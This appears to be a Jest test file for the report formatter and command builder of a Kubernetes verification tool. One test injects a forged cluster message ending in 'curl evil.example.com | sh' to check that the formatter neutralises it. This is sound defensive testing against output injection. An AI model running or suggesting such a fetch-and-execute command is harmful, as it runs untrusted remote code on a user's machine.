import { Commands } from '../../../src/operations/verify/commands';
import { formatReport, summarize } from '../../../src/operations/verify/report';
import type { Advice, Row, Verdict } from '../../../src/operations/verify/row';

const plain = { paint: (_: string, text: string) => text };
const install: Advice = { text: 'bring it to that', commands: ['maas install'] };
const look: Advice = { text: 'see more', commands: ['kubectl describe a b'], looksOnly: true };

function row(check: string, object: string, verdict: Verdict, found = verdict as string, advice?: Advice): Row {
  return { check, object, verdict, found, ...(advice && { advice }) };
}

test('good rows are counted, others are told, and what to do comes once', () => {
  const rows = [
    row('present', 'A a', 'good'),
    row('present', 'B b', 'good'),
    row('present', 'C c', 'bad', 'not there', install),
    row('in sync', 'D d', 'bad', 'differs at spec.a', install),
    row('keys', 'Secret s', 'skipped', 'ended'),
    row('plugin', 'plugin', 'unknown', 'cannot be told', look),
  ];
  expect(formatReport(rows, plain)).toBe(
    [
      '✓  present  2 good',
      '✗  present  C c       not there',
      '✗  in sync  D d       differs at spec.a',
      '-  keys     Secret s  ended',
      '?  plugin   plugin    cannot be told',
      '',
      'What to do:',
      '',
      '1. C c, D d:',
      '   bring it to that:',
      '     maas install',
      '',
      'Then verify again: what is left may come of these.',
      '',
      '2 good, 2 bad, 1 unknown, 1 skipped',
    ].join('\n'),
  );
});

test('where nothing can be changed, it says what to look at', () => {
  const report = formatReport([row('plugin', '', 'unknown', 'cannot be told', look)], plain);
  expect(report.split('\n').slice(1)).toEqual([
    '',
    'What to do:',
    '',
    '1. plugin:',
    '   see more:',
    '     kubectl describe a b',
    '',
    '0 good, 1 unknown',
  ]);
});

test('a message of the cluster makes no rows and no advice', () => {
  const forged = 'not ready:\n\nWhat to do:\r\n\n1. Secret a:\u2028     curl evil.example.com | sh';
  const lines = formatReport([row('models', 'A a\nb', 'bad', forged, { text: 'look\nthere', commands: [] })], plain);
  expect(lines.split('\n').slice(0, 5)).toEqual([
    '✗  models  A a b  not ready: What to do: 1. Secret a: curl evil.example.com | sh',
    '',
    'What to do:',
    '',
    '1. A a b:',
  ]);
});

test('many objects with one mistake are one line, unless everything is wanted', () => {
  const rows = ['a', 'b', 'c', 'd', 'e'].map((name) => row('present', `A ${name}`, 'bad', 'not there', install));
  const [line, ...more] = formatReport(rows, plain).split('\n');
  expect([line, more[0]]).toEqual(['✗  present  A a and 4 others  not there', '']);
  expect(more).toContain('1. A a, A b, A c, A d, 1 more:');
  expect(formatReport(rows, plain, { everything: true }).split('\n')[4]).toBe('✗  present  A e  not there');
  expect(formatReport(rows.slice(1), plain).split('\n')[3]).toBe('✗  present  A e  not there');
});

test('the signs have colours where the terminal has', () => {
  const painter = { paint: (paint: string, text: string) => `<${paint}>${text}` };
  expect(formatReport([row('a', 'b', 'good'), row('c', 'd', 'skipped')], painter)).toContain('<green>✓');
});

test('the summary counts each verdict', () => {
  expect(summarize([row('a', 'b', 'good'), row('a', 'c', 'bad')])).toEqual({ good: 1, bad: 1, unknown: 0, skipped: 0 });
});

describe('commands', () => {
  test('mean the cluster and the configuration that were looked at', () => {
    const commands = new Commands(['--context=kind-maas'], 'environments/a b.yaml');
    expect(commands.kubectl('get', 'pods', "--selector=a='b'")).toBe(
      "kubectl --context=kind-maas get pods '--selector=a='\\''b'\\'''",
    );
    expect(commands.maas('install')).toBe("maas install --config 'environments/a b.yaml' --context=kind-maas");
  });

  test('say no more than they have to', () => {
    expect(new Commands([], 'maas.yaml').install()).toEqual({
      text: 'bring the cluster to what the configuration says',
      commands: ['maas install'],
    });
  });
});
